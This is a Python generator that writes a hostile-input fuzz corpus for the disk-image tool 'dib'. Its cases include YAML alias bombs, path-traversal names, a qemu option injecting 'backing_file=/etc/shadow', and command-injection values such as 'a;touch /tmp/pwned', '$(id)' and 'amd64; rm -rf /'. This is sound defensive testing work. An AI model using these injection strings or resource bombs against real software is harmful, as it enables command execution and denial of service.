#!/usr/bin/env python3
"""Writes the hostile-input corpus of dib (issue 12).

Each case is a malformed input dib must refuse with a positioned error (or
one naming the element), without crashing, within 2 s and 256 MB:

  dibfile/NNN-kind-what.yaml      run as: dib plan NNN-kind-what.yaml
  blockdev/NNN-kind-what.yaml     run as: dib blockdev NNN-kind-what.yaml
  elements/NNN-kind-what/         run as: dib plan -e elements Dibfile.yaml
                                  (in that directory)
  plan/NNN-kind-what.json         edits of the plan file dib makes of
                                  plan/base.yaml (dib plan -o), or raw bytes;
                                  run as: dib plan plan.json

The expected outputs (*.golden) are written by the test in cmd/dib
(go test ./cmd/dib -run TestHostileCorpus -update). The inputs are
committed; run this script again only to change the corpus:

  python3 testdata/hostile/gen.py
"""

import json
import os
import shutil

HERE = os.path.dirname(os.path.abspath(__file__))
HEAD = "name: h\ndistro: debian-minimal\n"
DISK = HEAD + "outputs: [raw]\n"

cases = {"dibfile": [], "blockdev": [], "elements": [], "plan": []}


def dibfile(kind, what, text):
    cases["dibfile"].append((kind, what, text))


def blockdev(kind, what, text):
    cases["blockdev"].append((kind, what, text))


def element(kind, what, files, dibfile_text=None):
    cases["elements"].append((kind, what, files, dibfile_text))


def bd(entries, head=DISK):
    """A Dibfile with an inline block-device configuration."""
    return head + "block-device:\n" + "".join("  - " + e + "\n" for e in entries)


ROOT = [
    "local_loop: {name: image0, size: 2GiB}",
    "partitioning: {base: image0, label: gpt, partitions: [{name: root, base: image0, size: 100%}]}",
]


def fs(mkfs, mount="/", extra=()):
    return ROOT + ["mkfs: " + mkfs, "mount: {name: mnt_root, base: mkfs_root, mount_point: %s}" % mount,
                   "fstab: {name: fstab_root, base: mnt_root}"] + list(extra)


# ---------------------------------------------------------------- limits
for n in (65, 100, 1000, 20000):
    dibfile("limit", "flow-depth-%d" % n, HEAD + "packages: " + "[" * n + "\n")
dibfile("limit", "flow-map-depth", HEAD + "env: " + "{a: " * 100 + "\n")
dibfile("limit", "block-map-depth", HEAD + "env:\n" + "".join(" " * (i + 2) + "a:\n" for i in range(100)))
dibfile("limit", "block-seq-depth", HEAD + "packages:\n" + "- " * 100 + "x\n")
dibfile("limit", "mixed-depth", HEAD + "outputs:\n" + "".join(" " * (2 * i) + "- a:\n" for i in range(70)))
dibfile("limit", "env-keys-1001", HEAD + "env:\n" + "".join("  K%d: v\n" % i for i in range(1001)))
dibfile("limit", "flow-env-keys", HEAD + "env: {" + ", ".join("K%d: v" % i for i in range(6000)) + "}\n")
dibfile("limit", "values-seq", HEAD + "packages:\n" + "- a\n" * 30000)
dibfile("limit", "values-flow", HEAD + "packages: [" + "a," * 30000 + "]\n")
dibfile("limit", "tokens-comments", HEAD + "#\n" * 100001)
dibfile("limit", "tokens-words", HEAD + "mkfs-options: " + "x " * 100001 + "\n")
dibfile("limit", "string-plain", HEAD + "mkfs-options: " + "x" * 262145 + "\n")
dibfile("limit", "string-quoted", HEAD + 'mkfs-options: "' + "x" * 262145 + '"\n')
dibfile("limit", "string-block", HEAD + "mkfs-options: |\n" + "  xxxxxxxxxxxxxxx\n" * 15000)
dibfile("limit", "images-65", "images:\n" + "".join("  - {name: i%d, distro: debian-minimal}\n" % i for i in range(65)))
dibfile("limit", "images-1000", "images:\n" + "".join("  - {name: i%d, distro: debian-minimal, outputs: [tar]}\n" % i for i in range(1000)))
dibfile("limit", "file-size", HEAD + "# " + "z" * (1 << 20) + "\n")
dibfile("limit", "alias-bomb", HEAD + "env:\n  a: &a [x, x, x, x, x, x, x, x, x, x]\n" +
        "".join("  %s: &%s [%s]\n" % (chr(98 + i), chr(98 + i), ", ".join(["*" + chr(97 + i)] * 10)) for i in range(6)))
dibfile("limit", "alias-bomb-packages", "a: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
        "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\n" + HEAD)

# ---------------------------------------------------------------- YAML
syntax = {
    "unclosed-flow": HEAD + "packages: [a, b\n",
    "unclosed-map": HEAD + "env: {A: b\n",
    "unclosed-quote": HEAD + 'name: "abc\n',
    "unclosed-single": HEAD + "release: 'abc\n",
    "bad-indent": "name: h\n  distro: x\n",
    "tab-indent": "name: h\n\tdistro: x\n",
    "colon-in-plain": HEAD + "release: a: b\n",
    "seq-in-map": HEAD + "release: x\n- a\n",
    "undefined-alias": HEAD + "release: *nope\n",
    "anchor-only": HEAD + "release: &a\n",
    "second-document": HEAD + "---\nname: again\n",
    "document-end-junk": HEAD + "...\njunk: 1\n",
    "nul-byte": HEAD + "release: a\x00b\n",
    "invalid-utf8": HEAD + "release: \xff\xfe\n",
    "lone-surrogate-escape": HEAD + 'release: "\\ud800"\n',
    "bad-escape": HEAD + 'release: "\\q"\n',
    "empty-key": HEAD + ": value\n",
    "complex-key": HEAD + "? [a, b]\n: c\n",
    "merge-key-scalar": HEAD + "<<: 5\n",
    "merge-unknown": "<<: {distro: debian-minimal, bogus: 1}\nname: h\n",
    "tag-unknown": HEAD + "release: !!binary bm9ibGU=\n",
    "only-comment": "# nothing\n",
    "empty": "",
    "only-spaces": "   \n  \n",
    "scalar-document": "just a string\n",
    "list-document": "- a\n- b\n",
    "number-document": "42\n",
    "directive-no-doc": "%YAML 1.2\n",
    "bom-then-error": "\ufeff" + HEAD + "bogus: 1\n",
    "bom-twice": "\ufeff\ufeff" + HEAD,
    "duplicate-key": HEAD + "name: again\n",
    "duplicate-env": HEAD + "env:\n  A: 1\n  A: 2\n",
    "duplicate-quoted": HEAD + "env:\n  A: 1\n  'A': 2\n",
    "crlf-error": (HEAD + "bogus: 1\n").replace("\n", "\r\n"),
    "cr-only": (HEAD + "bogus: 1\n").replace("\n", "\r"),
    "flow-trailing": HEAD + "packages: [a,, b]\n",
    "flow-close-extra": HEAD + "packages: [a]]\n",
    "block-scalar-bad-indicator": HEAD + "mkfs-options: |x\n  a\n",
    "esc-in-key": HEAD + "\x1b[2Jbogus: 1\n",
    "bel-in-value-error": HEAD + "fs-type: \"ext4\\a\"\n",
    "rtl-override-key": HEAD + "bo\u202egus: 1\n",
    "null-value": "name: h\ndistro:\n",
    "tilde-value": "name: h\ndistro: ~\n",
}
for what, text in syntax.items():
    dibfile("yaml", what, text)

# ---------------------------------------------------------------- schema
schema = {
    "name-int": "name: 5\ndistro: debian-minimal\n",
    "name-list": "name: [a]\ndistro: debian-minimal\n",
    "name-slash": "name: a/b\ndistro: debian-minimal\n",
    "name-dotdot": "name: ../../../tmp/x/ESCAPED\ndistro: debian-minimal\n",
    "name-dot": "name: .\ndistro: debian-minimal\n",
    "name-space": "name: 'a b'\ndistro: debian-minimal\n",
    "name-newline": 'name: "a\\nb"\ndistro: debian-minimal\n',
    "name-empty": "name: ''\ndistro: debian-minimal\n",
    "name-dash": "name: -rf\ndistro: debian-minimal\n",
    "distro-missing": "name: h\n",
    "distro-int": "name: h\ndistro: 7\n",
    "distro-slash": "name: h\ndistro: ../debian\n",
    "distro-unknown": "name: h\ndistro: no-such-os\n",
    "distro-object-extra": "name: h\ndistro: {name: debian-minimal, bogus: 1}\n",
    "distro-object-no-name": "name: h\ndistro: {release: bookworm}\n",
    "arch-unknown": HEAD + "arch: sparc\n",
    "elements-string": HEAD + "elements: vm\n",
    "elements-dup": HEAD + "elements: [vm, vm]\n",
    "elements-slash": HEAD + "elements: [../vm]\n",
    "elements-unknown": HEAD + "elements: [no-such-element]\n",
    "elements-path-empty": HEAD + "elements-path: ['']\n",
    "env-list": HEAD + "env: [A]\n",
    "env-bad-name": HEAD + "env:\n  1A: x\n",
    "env-dash-name": HEAD + "env:\n  A-B: x\n",
    "env-list-value": HEAD + "env:\n  A: [x]\n",
    "env-bool": HEAD + "env:\n  A: true\n",
    "env-float": HEAD + "env:\n  A: 1.5\n",
    "env-both": HEAD + "env:\n  A: {value: x, from-env: B}\n",
    "env-neither": HEAD + "env:\n  A: {secret: true}\n",
    "env-extra": HEAD + "env:\n  A: {value: x, bogus: 1}\n",
    "env-from-bad": HEAD + "env:\n  A: {from-env: 'B C'}\n",
    "install-types-bad": HEAD + "install-types: {default: binary}\n",
    "install-types-override-bad": HEAD + "install-types: {overrides: {'a b': source}}\n",
    "packages-string": HEAD + "packages: vim\n",
    "packages-empty-item": HEAD + "packages: ['']\n",
    "packages-int": HEAD + "packages: [5]\n",
    "block-device-preset-unknown": HEAD + "block-device: zfs\n",
    "block-device-empty-list": HEAD + "block-device: []\n",
    "block-device-entry-two-keys": HEAD + "block-device:\n  - {mkfs: {}, mount: {}}\n",
    "block-device-entry-unknown": HEAD + "block-device:\n  - zpool: {name: x}\n",
    "block-device-entry-scalar": HEAD + "block-device:\n  - mkfs\n",
    "image-size-negative": HEAD + "image-size: -1\n",
    "image-size-zero": HEAD + "image-size: 0\n",
    "image-size-unit": HEAD + "image-size: 4 parsecs\n",
    "image-size-list": HEAD + "image-size: [4]\n",
    "root-label-empty": HEAD + "root-label: ''\n",
    "fs-type-unknown": HEAD + "fs-type: zfs\n",
    "fs-type-int": HEAD + "fs-type: 4\n",
    "max-online-resize-zero": HEAD + "max-online-resize: 0\n",
    "outputs-empty": HEAD + "outputs: []\n",
    "outputs-unknown": HEAD + "outputs: [wim]\n",
    "outputs-dup": HEAD + "outputs: [raw, raw]\n",
    "outputs-object-no-format": HEAD + "outputs: [{compress: true}]\n",
    "outputs-compress-raw": HEAD + "outputs: [{format: raw, compress: true}]\n",
    "outputs-target-qcow2": HEAD + "outputs: [{format: qcow2, target: x}]\n",
    "outputs-subformat-tar": HEAD + "outputs: [{format: tar, subformat: x}]\n",
    "outputs-qemu-options-tar": HEAD + "outputs: [{format: tar, qemu-img-options: {a: b}}]\n",
    "outputs-target-space": HEAD + "outputs: [{format: docker, target: 'a b'}]\n",
    "checksum-unknown": HEAD + "checksum: [crc32]\n",
    "checksum-empty": HEAD + "checksum: []\n",
    "ramdisk-string": HEAD + "ramdisk: yes\n",
    "ramdisk-element-slash": HEAD + "ramdisk-element: ../x\n",
    "min-tmpfs-zero": HEAD + "min-tmpfs: 0\n",
    "debug-trace-9": HEAD + "debug-trace: 9\n",
    "logfile-empty": HEAD + "logfile: ''\n",
    "image-cache-empty": HEAD + "image-cache: ''\n",
    "unknown-key": HEAD + "bogus: 1\n",
    "unknown-key-typo": HEAD + "relase: bookworm\n",
    "images-empty": "images: []\n",
    "images-no-name": "images:\n  - distro: debian-minimal\n",
    "images-dup-name": "images:\n  - {name: a, distro: debian-minimal}\n  - {name: a, distro: debian-minimal}\n",
    "images-and-top-level": "images:\n  - {name: a, distro: debian-minimal}\ndistro: debian-minimal\n",
    "defaults-without-images": HEAD + "defaults: {arch: amd64}\n",
    "dib-yaml-list": "- imagename: x\n  elements: [vm]\n",
}
for what, text in schema.items():
    dibfile("schema", what, text)

# ---------------------------------------------------------------- plan-time checks: names and URLs
for what, name in {
    "300": "a" * 300, "201": "b" * 201, "dots": "a..b/..", "percent": "a%2f..", "colon": "a:b",
    "unicode-rtl": "a\u202eb", "esc": "a\x1bb", "trailing-space": "a ",
}.items():
    dibfile("name", what, "name: %s\ndistro: debian-minimal\n" % json.dumps(name))
for what, rel in {
    "escape": "bookworm/../../../tmp/x/ESCAPE", "slash": "a/b", "dotdot": "..", "dot-dot-inside": "noble..x",
    "space": "book worm", "newline": "book\nworm", "esc": "book\x1bworm", "long": "r" * 65,
    "leading-dash": "-rf", "leading-dot": ".hidden", "absolute": "/etc", "star": "book*",
}.items():
    dibfile("release", what, HEAD + "release: %s\n" % json.dumps(rel))
    if what in ("escape", "slash", "dotdot"):
        dibfile("release", what + "-in-distro", "name: h\ndistro: {name: debian-minimal, release: %s}\n" % json.dumps(rel))
        dibfile("release", what + "-in-env", HEAD + "env:\n  DIB_RELEASE: %s\n" % json.dumps(rel))
for what, m in {
    "no-scheme": "deb.debian.org/debian", "space": "http://deb debian.org/", "gopher": "gopher://x/debian",
    "javascript": "javascript:alert(1)", "userinfo": "https://user:pw@mirror.example/debian",
    "no-host": "http:///debian", "file-relative": "file:debian", "newline": "http://a/\nb",
    "esc": "http://a/\x1b[2J", "empty-host-port": "http://:80/", "semicolon": "http://a/;touch /tmp/x",
    "backtick": "http://a/`id`",
}.items():
    dibfile("mirror", what, HEAD + "mirror: %s\n" % json.dumps(m))
dibfile("mirror", "in-distro", "name: h\ndistro: {name: debian-minimal, mirror: 'ftp//x'}\n")
for what, p in {
    "shell-semicolon": "a;touch /tmp/pwned", "option": "--allow-unauthenticated", "option-short": "-y",
    "space": "vim nano", "dollar": "$(id)", "backtick": "`id`", "pipe": "a|b", "ampersand": "a&b",
    "redirect": "a>b", "newline": "a\nb", "esc": "a\x1bb", "quote": "a'b", "slash": "../x",
    "uppercase-debian": "Vim", "underscore-debian": "lsb_release", "one-char-debian": "x",
    "glob": "lib*", "unicode": "vím", "long": "p" * 300, "tab": "a\tb",
}.items():
    dibfile("package", what, HEAD + "packages: [%s]\n" % json.dumps(p))
for what, p in {"rpm-shell": "a;b", "rpm-option": "--nogpgcheck", "rpm-space": "a b"}.items():
    dibfile("package", what, "name: h\ndistro: centos-minimal\npackages: [%s]\n" % json.dumps(p))
for var in ["TMP_MOUNT_PATH", "IMAGE_NAME", "PATH", "TARGET_ROOT", "TMP_BUILD_DIR", "TMP_HOOKS_PATH", "TMP_IMAGE_DIR",
            "TMP_IMAGE_PATH", "IMAGE_ELEMENT", "IMAGE_ELEMENT_YAML", "ARCH", "ELEMENTS_PATH", "HOME", "_LIB"]:
    dibfile("env-reserved", var.lower().replace("_", "-"), HEAD + "env:\n  %s: /x\n" % var)
dibfile("env-reserved", "secret-path", HEAD + "env:\n  PATH: {secret: true, value: x}\n")
dibfile("env-reserved", "in-defaults", "defaults:\n  env: {TMP_MOUNT_PATH: /x}\nimages:\n  - {name: a, distro: debian-minimal}\n")
for fst, n in {"ext2": 17, "ext3": 17, "ext4": 17, "xfs": 13, "vfat": 12}.items():
    dibfile("root-label", fst + "-long", HEAD + "fs-type: %s\nroot-label: %s\n" % (fst, "L" * n))
dibfile("root-label", "ext4-multibyte", HEAD + "root-label: " + "é" * 9 + "\n")
for what, label in {"newline": "a\nb", "space": "a b", "tab": "a\tb", "esc": "a\x1b", "bel": "a\x07"}.items():
    dibfile("root-label", what, HEAD + "root-label: %s\n" % json.dumps(label))
dibfile("fs-type", "btrfs-disk", HEAD + "fs-type: btrfs\n")
dibfile("fs-type", "btrfs-in-defaults", "defaults: {fs-type: btrfs}\nimages:\n  - {name: a, distro: debian-minimal, outputs: [qcow2]}\n")
dibfile("mkfs-options", "esc", HEAD + "mkfs-options: \"-i 4096\\e[2J\"\n")
for what, size in {"1EiB": "1152921504606846976B", "17TiB": "17TiB", "huge-gib": 100000, "exabyte-float": "1e30",
                   "overflow": "99999999999999999999999TiB"}.items():
    dibfile("image-size", what, HEAD + "image-size: %s\n" % json.dumps(size))
for fmt_, sub in {"vhd": "weird", "vhdx": "streamOptimized", "vmdk": "fixed", "vhd-case": "Fixed"}.items():
    dibfile("output", "subformat-" + fmt_, HEAD + "outputs: [{format: %s, subformat: %s}]\n" % (fmt_.split("-")[0], sub))
for what, opts in {
    "comma-injection": '{compat: "1.1,backing_file=/etc/shadow"}', "unknown": "{nosuch: 1}",
    "space": '{compat: "1 1"}', "empty": "{compat: ''}", "newline": '{compat: "a\\nb"}',
    "vdi-unknown": None, "vmdk-unknown": None,
}.items():
    if what == "vdi-unknown":
        dibfile("output", "qemu-" + what, HEAD + "outputs: [{format: vdi, qemu-img-options: {compat: 1.1}}]\n")
    elif what == "vmdk-unknown":
        dibfile("output", "qemu-" + what, HEAD + "outputs: [{format: vmdk, qemu-img-options: {cluster_size: 65536}}]\n")
    else:
        dibfile("output", "qemu-" + what, HEAD + "outputs: [{format: qcow2, qemu-img-options: %s}]\n" % opts)
for what, t in {
    "uppercase": "UPPER/x:1", "dotdot": "a/../b", "double-colon": "a:b:c", "at": "a@sha", "trailing-slash": "a/",
    "leading-slash": "/a", "tag-too-long": "a:" + "t" * 200, "empty-tag": "a:", "semicolon": "a;b", "esc": "a\x1b",
}.items():
    dibfile("output", "docker-" + what, HEAD + "outputs: [{format: docker, target: %s}]\n" % json.dumps(t))

# ---------------------------------------------------------------- inline block-device (Dibfile positions)
dibfile("blockdev", "gpt-129-partitions", bd(["local_loop: {name: image0, size: 10GiB}",
        "partitioning:\n      base: image0\n      label: gpt\n      partitions:\n" +
        "".join("        - {name: p%d, base: image0, size: 1MiB}\n" % i for i in range(129)) +
        "  - mkfs: {name: mkfs_root, base: p0, type: ext4, label: root}",
        "mount: {name: mnt_root, base: mkfs_root, mount_point: /}", "fstab: {name: fstab_root, base: mnt_root}"]))
dibfile("blockdev", "gpt-name-37", bd(["local_loop: {name: image0, size: 2GiB}",
        "partitioning: {base: image0, label: gpt, partitions: [{name: %s, base: image0, size: 100%%}]}" % ("n" * 37),
        "mkfs: {name: mkfs_root, base: %s, type: ext4, label: root}" % ("n" * 37),
        "mount: {name: mnt_root, base: mkfs_root, mount_point: /}", "fstab: {name: fstab_root, base: mnt_root}"]))
dibfile("blockdev", "gpt-name-utf16", bd(["local_loop: {name: image0, size: 2GiB}",
        "partitioning: {base: image0, label: gpt, partitions: [{name: %s, base: image0, size: 100%%}]}" % ("\U0001F600" * 19),
        "mkfs: {name: mkfs_root, base: %s, type: ext4, label: root}" % ("\U0001F600" * 19),
        "mount: {name: mnt_root, base: mkfs_root, mount_point: /}", "fstab: {name: fstab_root, base: mnt_root}"]))
for what, typ in {"type-word": "linux", "type-5-digits": "83000", "type-bad-guid": "0FC63DAF-8483-4772-8E79-3D69D8477DE"}.items():
    dibfile("blockdev", "gpt-" + what, bd(["local_loop: {name: image0, size: 2GiB}",
            "partitioning: {base: image0, label: gpt, partitions: [{name: root, base: image0, size: 100%%, type: '%s'}]}" % typ,
            "mkfs: {name: mkfs_root, base: root, type: ext4, label: root}",
            "mount: {name: mnt_root, base: mkfs_root, mount_point: /}", "fstab: {name: fstab_root, base: mnt_root}"]))
for typ in ["zfs", "btrfs", "ntfs", "ext5", "'ext4 -O bad'", "''", "squashfs", "tmpfs"]:
    dibfile("blockdev", "mkfs-type-" + (typ.strip("'").replace(" ", "-").replace("-O-bad", "-opts") or "empty"),
            bd(fs("{name: mkfs_root, base: root, type: %s, label: root}" % typ)))
for fst, n in {"ext4": 17, "xfs": 13, "vfat": 12, "swap": 17, "ext2": 17}.items():
    dibfile("blockdev", "label-%s-%d" % (fst, n), bd(fs("{name: mkfs_root, base: root, type: %s, label: %s}" % (fst, "l" * n))))
dibfile("blockdev", "label-multibyte-xfs", bd(fs("{name: mkfs_root, base: root, type: xfs, label: %s}" % ("é" * 7))))
for what, label in {"newline": "a\\nb", "space": "a b", "esc": "a\\e", "tab": "a\\tb", "nul": "a\\0b"}.items():
    dibfile("blockdev", "label-" + what, bd(fs('{name: mkfs_root, base: root, type: ext4, label: "%s"}' % label)))
for what, uuid in {"word": "not-a-uuid", "short": "1234", "no-dashes": "0123456789abcdef0123456789abcdef",
                   "too-long": "01234567-89ab-cdef-0123-456789abcdef0", "non-hex": "0123456g-89ab-cdef-0123-456789abcdef",
                   "option": "--help", "newline": "01234567-89ab-cdef-0123-456789abcdef\\n"}.items():
    dibfile("blockdev", "uuid-ext4-" + what, bd(fs('{name: mkfs_root, base: root, type: ext4, label: root, uuid: "%s"}' % uuid)))
dibfile("blockdev", "uuid-vfat-word", bd(ROOT + ["mkfs: {name: mkfs_root, base: root, type: ext4, label: root}",
        "mkfs: {name: mkfs_esp, base: root, type: vfat, label: ESP, uuid: ABCD}",
        "mount: {name: mnt_root, base: mkfs_root, mount_point: /}", "fstab: {name: fstab_root, base: mnt_root}"]))
dibfile("blockdev", "uuid-xfs-word", bd(fs('{name: mkfs_root, base: root, type: xfs, label: root, uuid: "xfs"}')))
dibfile("blockdev", "mkfs-opts-esc", bd(fs('{name: mkfs_root, base: root, type: ext4, label: root, opts: "-i 4096\\e"}')))
for what, name in {"traversal": "../../../../tmp/x/evil", "slash": "a/b", "dot": ".", "dotdot": "..",
                   "dash": "-rf", "newline": "a\\nb", "esc": "a\\e[2J", "long": "n" * 65, "absolute": "/dev/sda"}.items():
    dibfile("blockdev", "node-name-mkfs-" + what, bd(fs("{name: mkfs_root, base: root, type: ext4, label: root}",
            extra=['mkfs: {name: "%s", base: root, type: swap, label: swp}' % name])))
    if what in ("traversal", "slash", "dotdot", "newline"):
        dibfile("blockdev", "node-name-loop-" + what, bd(['local_loop: {name: "%s", size: 2GiB}' % name,
                'partitioning: {base: "%s", label: gpt, partitions: [{name: root, base: "%s", size: 100%%}]}' % (name, name),
                "mkfs: {name: mkfs_root, base: root, type: ext4, label: root}",
                "mount: {name: mnt_root, base: mkfs_root, mount_point: /}", "fstab: {name: fstab_root, base: mnt_root}"]))
        dibfile("blockdev", "node-name-partition-" + what, bd(["local_loop: {name: image0, size: 2GiB}",
                'partitioning: {base: image0, label: gpt, partitions: [{name: "%s", base: image0, size: 100%%}]}' % name,
                'mkfs: {name: mkfs_root, base: "%s", type: ext4, label: root}' % name,
                "mount: {name: mnt_root, base: mkfs_root, mount_point: /}", "fstab: {name: fstab_root, base: mnt_root}"]))
        dibfile("blockdev", "node-name-mount-" + what, bd(ROOT + ["mkfs: {name: mkfs_root, base: root, type: ext4, label: root}",
                'mount: {name: "%s", base: mkfs_root, mount_point: /}' % name, 'fstab: {name: fstab_root, base: "%s"}' % name]))
for what, mp in {"traversal": "/../../tmp/x", "relative": "boot", "dotdot-inside": "/boot/../..", "double-slash": "//boot",
                 "trailing-slash": "/boot/", "dot": "/boot/.", "space": "/bo ot", "newline": "/boot\\n/etc",
                 "esc": "/boot\\e", "empty": ""}.items():
    dibfile("blockdev", "mount-point-" + what, bd(fs("{name: mkfs_root, base: root, type: ext4, label: root}",
            extra=["mkfs: {name: mkfs_data, base: root, type: ext4, label: data}",
                   'mount: {name: mnt_data, base: mkfs_data, mount_point: "%s"}' % mp])))
for what, opt in {"newline": "defaults\\nLABEL=x /etc ext4 defaults 0 0", "space": "defaults noatime",
                  "empty": "", "tab": "a\\tb", "esc": "defaults\\e"}.items():
    dibfile("blockdev", "fstab-options-" + what, bd(ROOT + ["mkfs: {name: mkfs_root, base: root, type: ext4, label: root}",
            "mount: {name: mnt_root, base: mkfs_root, mount_point: /}",
            'fstab: {name: fstab_root, base: mnt_root, options: "%s"}' % opt]))
for what, size in {"1EiB": "1EiB", "17TiB": "17TiB", "zero": "0", "negative": "-1GiB", "word": "big", "odd-bytes": "1001"}.items():
    dibfile("blockdev", "loop-size-" + what, bd(['local_loop: {name: image0, size: "%s"}' % size] + ROOT[1:] +
            ["mkfs: {name: mkfs_root, base: root, type: ext4, label: root}",
             "mount: {name: mnt_root, base: mkfs_root, mount_point: /}", "fstab: {name: fstab_root, base: mnt_root}"]))
for what, entries in {
    "missing-base": ["local_loop: {name: image0}", "mkfs: {name: mkfs_root, type: ext4}"],
    "missing-name": ["local_loop: {size: 1GiB}"],
    "unknown-base": fs("{name: mkfs_root, base: nowhere, type: ext4, label: root}"),
    "cycle": ["mkfs: {name: a, base: b, type: ext4}", "mkfs: {name: b, base: a, type: ext4}"],
    "duplicate-node": fs("{name: mkfs_root, base: root, type: ext4, label: root}", extra=["mkfs: {name: mkfs_root, base: root, type: ext4, label: r2}"]),
    "duplicate-label": fs("{name: mkfs_root, base: root, type: ext4, label: root}", extra=["mkfs: {name: m2, base: root, type: ext4, label: root}"]),
    "duplicate-mount": fs("{name: mkfs_root, base: root, type: ext4, label: root}", extra=["mkfs: {name: m2, base: root, type: ext4, label: r2}", "mount: {name: mnt2, base: m2, mount_point: /}"]),
    "partitions-not-list": ["local_loop: {name: image0}", "partitioning: {base: image0, label: gpt, partitions: 5}"],
    "label-not-gpt-mbr": ["local_loop: {name: image0}", "partitioning: {base: image0, label: apm, partitions: []}"],
    "partition-size-word": ["local_loop: {name: image0}", "partitioning: {base: image0, label: gpt, partitions: [{name: r, base: image0, size: lots}]}"],
    "partition-size-200pct": ["local_loop: {name: image0}", "partitioning: {base: image0, label: gpt, partitions: [{name: r, base: image0, size: 200%}]}"],
    "partitions-overflow": ["local_loop: {name: image0, size: 1GiB}", "partitioning: {base: image0, label: gpt, partitions: [{name: a, base: image0, size: 800MiB}, {name: b, base: image0, size: 800MiB}]}"],
    "mbr-flag-unknown": ["local_loop: {name: image0}", "partitioning: {base: image0, label: mbr, partitions: [{name: r, base: image0, size: 100%, flags: [hidden]}]}"],
    "mbr-type-int": ["local_loop: {name: image0}", "partitioning: {base: image0, label: mbr, partitions: [{name: r, base: image0, size: 100%, type: 131}]}"],
    "block-size-3": ["local_loop: {name: image0, block_size: 3}"],
    "align-odd": ["local_loop: {name: image0}", "partitioning: {base: image0, label: gpt, align: 3, partitions: []}"],
    "lvm-no-pvs": ["local_loop: {name: image0}", "lvm: {name: lvm, base: [image0]}"],
    "fstab-dump-word": fs("{name: mkfs_root, base: root, type: ext4, label: root}")[:-1] + ["fstab: {name: fstab_root, base: mnt_root, dump-freq: often}"],
}.items():
    dibfile("blockdev", "graph-" + what, bd(entries))
# an invalid inline configuration is reported even when no output needs a disk
for what, entries in {
    "tar-zfs": fs("{name: mkfs_root, base: root, type: zfs, label: root}"),
    "tar-traversal": fs("{name: mkfs_root, base: root, type: ext4, label: root}", extra=["mkfs: {name: ../../x, base: root, type: swap, label: s}"]),
    "tar-missing-base": ["mkfs: {name: root}"],
    "tar-mount-point": fs("{name: mkfs_root, base: root, type: ext4, label: root}", mount="/../x"),
}.items():
    dibfile("blockdev", "no-disk-" + what, bd(entries, head=HEAD + "outputs: [tar]\n"))

# ---------------------------------------------------------------- dib blockdev (standalone configs)
def cfg(entries):
    return "".join("- " + e + "\n" for e in entries)


for kind, what, text in list(cases["dibfile"]):
    if kind == "blockdev" and not what.startswith("no-disk") and "block-device:\n" in text:
        body = text.split("block-device:\n", 1)[1]
        blockdev("config", what, "\n".join(l[2:] if l.startswith("  ") else l for l in body.split("\n")))
blockdev("limit", "deep", "- " * 100 + "x\n")
blockdev("limit", "flow-deep", "[" * 100000)
blockdev("limit", "keys", "- mkfs:\n" + "".join("    k%d: v\n" % i for i in range(6000)))
BOMB = "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join("%s: &%s [%s]\n" % (c, c, ",".join(["*" + p] * 10)) for p, c in zip("abcdefg", "bcdefgh"))
blockdev("limit", "alias-bomb", BOMB)
blockdev("limit", "alias-bomb-in-list", "- mkfs: &m {name: x, base: y, type: ext4}\n- " + BOMB.replace("\n", "\n  "))
blockdev("yaml", "unclosed", "- mkfs: {name: x\n")
blockdev("yaml", "scalar", "hello\n")
blockdev("yaml", "empty", "")
blockdev("yaml", "map", "mkfs: {name: x}\n")
blockdev("yaml", "bom-error", "\ufeff- mkfs: {name: x\n")

# ---------------------------------------------------------------- element trees
def elem(kind, what, **files):
    element(kind, what, {("fz/" + k.replace("__", "-").replace("_yaml", ".yaml").replace("_json", ".json")): v for k, v in files.items()})


for n in (65, 1000, 20000):
    elem("package-installs", "flow-depth-%d" % n, package__installs_yaml="foo: " + "[" * n + "\n")
elem("package-installs", "alias-bomb-deep", package__installs_yaml=BOMB)
elem("block-device", "alias-bomb", block__device__default_yaml=BOMB, element__provides="block-device\n")
elem("package-installs", "block-depth", package__installs_yaml="".join(" " * i + "a:\n" for i in range(100)))
elem("package-installs", "keys-6000", package__installs_yaml="".join("p%d:\n" % i for i in range(6000)))
elem("package-installs", "alias-bomb", package__installs_yaml="a: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
     "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\n")
for what, text in {
    "arch-map": "vim:\n  arch: {a: b}\n", "arch-list": "vim:\n  arch: [amd64]\n", "arch-int": "vim:\n  arch: 64\n",
    "arch-bad-name": "vim:\n  arch: 'amd64; rm -rf /'\n", "arch-empty-item": "vim:\n  arch: 'amd64,,arm64'\n",
    "not-arch-map": "vim:\n  not-arch: {x: y}\n", "phase-unknown": "vim:\n  phase: install\n",
    "option-unknown": "vim:\n  phse: install.d\n", "when-bad": "vim:\n  when: JUSTAWORD\n",
    "value-scalar": "vim: yes\n", "list-of-scalars": "vim: [a, b]\n", "top-list": "- vim\n",
    "name-option": "--allow-unauthenticated:\n", "name-shell": "'a;touch /tmp/pwned':\n", "name-space": "'a b':\n",
    "name-dollar": "'$(id)':\n", "name-newline": "\"a\\nb\":\n", "name-esc": "\"a\\eb\":\n",
    "unclosed": "vim: {phase: x\n", "tab": "vim:\n\tphase: x\n", "duplicate": "vim:\nvim:\n", "invalid-utf8": "v\xffm:\n",
}.items():
    elem("package-installs", what, package__installs_yaml=text)
elem("package-installs", "json-broken", package__installs_json="{\"vim\": ")
elem("package-installs", "json-deep", package__installs_json="{\"a\":" * 1000)
for what, text in {
    "not-json": "{not json", "unknown-key": '{"families": {}}', "deep": '{"family": ' * 1000,
    "keys": "{" + ",".join('"k%d": 1' % i for i in range(6000)) + "}", "list": "[1, 2]",
    "mapped-option": '{"family": {"debian": {"vim": "--force-yes"}}}', "mapped-shell": '{"family": {"debian": {"vim": "a;b"}}}',
    "wrong-type": '{"family": {"debian": ["vim"]}}',
}.items():
